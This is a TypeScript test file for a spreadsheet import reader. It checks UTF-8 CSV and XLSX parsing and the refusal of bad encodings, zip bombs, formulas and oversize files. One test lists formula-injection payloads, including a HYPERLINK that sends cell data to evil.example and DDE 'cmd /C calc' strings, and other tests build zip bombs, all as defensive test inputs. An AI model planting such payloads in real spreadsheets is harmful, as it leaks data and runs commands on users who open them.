/**
 * The import's file reader (src-main/import) on real and hostile files: CSV in UTF-8 with and
 * without BOM, each separator; XLSX written by exceljs; and what must be refused, quickly and
 * without expanding the file in memory: Latin-1 text, a file that is no spreadsheet, zip bombs
 * (honest and lying), formulas, sheets and CSV files with too many rows (a million-row CSV made here
 * in a temp file), too many columns, too large a file.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { ApiFailure } from '../../src-shared/api';
import { MAX_FILE_BYTES, MAX_ROWS } from '../../src-shared/import';
import { readImportFile } from '../../src-main/import/read';
import { linesCsvText, sheetXml, workbook, workbookParts, zip } from './import-files';

const FIXTURES = path.resolve(import.meta.dirname, '../fixtures/import');
const fixture = (name: string) => readFileSync(path.join(FIXTURES, name));
const tmp = mkdtempSync(path.join(os.tmpdir(), 'rcs-import-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

/** The refusal of reading `bytes`: its field code and message; fails when the file is read. */
async function refusal(bytes: Buffer, name = 'file'): Promise<{ code: string | undefined; message: string }> {
  try {
    await readImportFile(name, bytes);
  } catch (err) {
    if (!(err instanceof ApiFailure)) throw err;
    expect(err.code).toBe('validation');
    expect(err.message).toMatch(/Nothing was imported\.$/);
    return { code: err.fields?.file, message: err.message };
  }
  throw new Error('the file was read');
}

describe('CSV', () => {
  it('reads UTF-8 with a BOM, comma separated', async () => {
    const f = await readImportFile('a.csv', Buffer.from('\ufeffName,Unit cost\r\n"Kit, large",1234.50\r\n'));
    expect(f).toMatchObject({ format: 'csv', separator: ',', sheet: null });
    expect(f.table).toEqual({ headers: ['Name', 'Unit cost'], rows: [['Kit, large', '1234.50']] });
  });

  it('reads semicolons and tabs, UTF-8 without a BOM, accents kept', async () => {
    const semi = await readImportFile('fr.csv', Buffer.from('Intitulé;Coût unitaire\nFormation à l’emploi;1 234,50\n'));
    expect(semi.separator).toBe(';');
    expect(semi.table.rows).toEqual([['Formation à l’emploi', '1 234,50']]);
    const tab = await readImportFile('t.tsv', Buffer.from('Name\tQuantity\nKit\t3\n'));
    expect(tab.separator).toBe('\t');
    expect(tab.table.rows).toEqual([['Kit', '3']]);
  });

  it('keeps hostile cells as text (the check refuses formulas)', async () => {
    const f = await readImportFile('formula-cells.csv', fixture('formula-cells.csv'));
    expect(f.table.rows.map((r) => r[0])).toEqual([
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      "+cmd|' /C calc'!A0",
      '-1+1',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+2',
      '\r=1+2',
      'Safe line',
    ]);
  });

  it('refuses Latin-1 with how to save as UTF-8', async () => {
    const r = await refusal(fixture('latin1.csv'), 'latin1.csv');
    expect(r.code).toBe('import.encoding');
    expect(r.message).toMatch(/not in UTF-8.*CSV UTF-8/);
  });

  it('refuses UTF-16', async () => {
    const r = await refusal(Buffer.from('\ufeffName\n', 'utf16le'));
    expect(r.code).toBe('import.encoding');
  });

  it('refuses a file that is not a spreadsheet', async () => {
    expect((await refusal(fixture('not-a-spreadsheet.pdf'))).code).toBe('import.notSpreadsheet');
    expect((await refusal(Buffer.from([0x00, 0x01, 0x02, 0x03, 0x61]))).code).toBe('import.notSpreadsheet');
    const docx = zip([{ name: 'word/document.xml', data: Buffer.from('<w:document/>') }]);
    expect((await refusal(docx)).code).toBe('import.notSpreadsheet');
  });

  it('refuses an empty file and a file without headings', async () => {
    expect((await refusal(Buffer.alloc(0))).code).toBe('import.empty');
    expect((await refusal(Buffer.from('\n\n'))).code).toBe('import.empty');
  });

  it('refuses an unclosed quote, naming the row', async () => {
    const r = await refusal(Buffer.from('Name\n"ok"\n"broken\nmore\n'));
    expect(r.code).toBe('import.damaged');
    expect(r.message).toContain('row 3');
  });

  it('reads exactly MAX_ROWS rows, and refuses one more', async () => {
    const f = await readImportFile('max.csv', Buffer.from(linesCsvText(MAX_ROWS)));
    expect(f.table.rows).toHaveLength(MAX_ROWS);
    expect((await refusal(Buffer.from(linesCsvText(MAX_ROWS + 1)))).code).toBe('import.tooManyRows');
  });

  it('refuses a million-row CSV quickly, without reading it all', async () => {
    const file = path.join(tmp, 'million.csv');
    writeFileSync(file, 'Name,Unit cost\n' + 'x,1\n'.repeat(1_000_000));
    const bytes = readFileSync(file);
    expect(bytes.length).toBeLessThan(MAX_FILE_BYTES);
    const t0 = performance.now();
    const before = process.memoryUsage().heapUsed;
    const r = await refusal(bytes, 'million.csv');
    const ms = performance.now() - t0;
    expect(r.code).toBe('import.tooManyRows');
    expect(r.message).toContain('more than 10,000 rows');
    expect(ms).toBeLessThan(1000);
    expect(process.memoryUsage().heapUsed - before).toBeLessThan(64 * 1024 * 1024);
  });

  it('refuses too many columns and too large a file', async () => {
    const wide = Array.from({ length: 201 }, (_, i) => `c${i}`).join(',');
    expect((await refusal(Buffer.from(`${wide}\n`))).code).toBe('import.tooManyColumns');
    const big = Buffer.alloc(MAX_FILE_BYTES + 1, 0x61);
    const r = await refusal(big, 'big.csv');
    expect(r.code).toBe('import.tooLarge');
    expect(r.message).toContain('at most 20 MB');
  });
});

describe('XLSX', () => {
  it('reads the first sheet of a workbook: text, numbers, yes/no, dates, rich text', async () => {
    const bytes = await workbook(
      [
        ['Name', 'Unit cost', 'Quantity', 'Eligible for contingency', 'First month'],
        ['Kit', 1234.5, 3, true, new Date(Date.UTC(2026, 2, 1))],
        [null, null, null, null, null],
        ['Counselling', 40, null, false, 2],
      ],
      (sheet, book) => {
        sheet.getCell('A5').value = { richText: [{ text: 'Rich ' }, { text: 'text' }] };
        book.addWorksheet('Other').addRow(['not', 'read']);
      },
    );
    const f = await readImportFile('book.xlsx', bytes);
    expect(f).toMatchObject({ format: 'xlsx', sheet: 'Budget', separator: null });
    expect(f.table.headers).toEqual(['Name', 'Unit cost', 'Quantity', 'Eligible for contingency', 'First month']);
    expect(f.table.rows[0]).toEqual(['Kit', 1234.5, 3, true, '2026-03-01']);
    expect(f.table.rows[1]).toEqual([]);
    expect(f.table.rows[2]).toEqual(['Counselling', 40, null, false, 2]);
    expect(f.table.rows[3]![0]).toBe('Rich text');
  });

  it('refuses formulas, naming the cell (tests/fixtures/import/formulas.xlsx)', async () => {
    const r = await refusal(fixture('formulas.xlsx'), 'formulas.xlsx');
    expect(r.code).toBe('import.formula');
    expect(r.message).toContain('Cell B3 of the sheet "Budget"');
    expect(r.message).toContain('Paste special');
  });

  it('refuses a zip bomb by its declared sizes, before expanding it', async () => {
    // 60 MB of zeros deflate to about 60 KB: a ratio of about 1000.
    const bomb = zip([
      ...workbookParts(sheetXml('')),
      { name: 'xl/media/zeros.bin', data: Buffer.alloc(60 * 1024 * 1024) },
    ]);
    expect(bomb.length).toBeLessThan(200 * 1024);
    const t0 = performance.now();
    const r = await refusal(bomb, 'bomb.xlsx');
    expect(r.code).toBe('import.zipBomb');
    expect(performance.now() - t0).toBeLessThan(500);
  });

  it('refuses a zip bomb that lies about its size', async () => {
    const liar = zip([
      ...workbookParts(sheetXml('')),
      { name: 'xl/media/zeros.bin', data: Buffer.alloc(30 * 1024 * 1024), declaredSize: 1000 },
    ]);
    expect((await refusal(liar, 'liar.xlsx')).code).toBe('import.zipBomb');
  });

  it('refuses too many entries, or too much in all once expanded', async () => {
    const many = zip(Array.from({ length: 1001 }, (_, i) => ({ name: `x/${i}.xml`, data: Buffer.from('<a/>') })));
    expect((await refusal(many)).code).toBe('import.zipBomb');
    // Six entries that each say 20 MB, stored 200 KB each (so no single ratio is suspect): 120 MB in all.
    const parts = Array.from({ length: 6 }, (_, i) => ({
      name: `xl/media/${i}.bin`,
      data: Buffer.alloc(200 * 1024, i),
      store: true,
      declaredSize: 20 * 1024 * 1024,
    }));
    const declared = zip([...workbookParts(sheetXml('')), ...parts]);
    const r = await refusal(declared);
    expect(r.code).toBe('import.zipBomb');
    expect(r.message).toContain('more than 100 MB once expanded');
    expect((await refusal(declared)).code).toBe('import.zipBomb');
  });

  it('refuses a damaged zip', async () => {
    const good = await workbook([['Name'], ['Kit']]);
    expect((await refusal(good.subarray(0, good.length - 30))).code).toBe('import.damaged');
  });

  it('refuses a sheet of a million rows by its <dimension>, by its last row, or by counting rows', async () => {
    const row = (r: number) => `<row r="${r}"><c r="A${r}" t="inlineStr"><is><t>x</t></is></c></row>`;
    const byDimension = zip(workbookParts(sheetXml(row(1), 'A1:B1000000')));
    expect((await refusal(byDimension)).code).toBe('import.tooManyRows');
    const byLastRow = zip(workbookParts(sheetXml(row(1) + row(1_000_000))));
    expect((await refusal(byLastRow)).code).toBe('import.tooManyRows');
    const rows = Array.from({ length: MAX_ROWS + 2 }, (_, i) => `<row><c t="inlineStr"><is><t>${i}</t></is></c></row>`);
    const byCount = zip(workbookParts(sheetXml(rows.join(''))));
    const t0 = performance.now();
    expect((await refusal(byCount)).code).toBe('import.tooManyRows');
    expect(performance.now() - t0).toBeLessThan(500);
  });

  it('refuses a sheet wider than 200 columns', async () => {
    const wide = zip(workbookParts(sheetXml('<row r="1"><c r="A1"/></row>', 'A1:ZZ2')));
    expect((await refusal(wide)).code).toBe('import.tooManyColumns');
  });
});
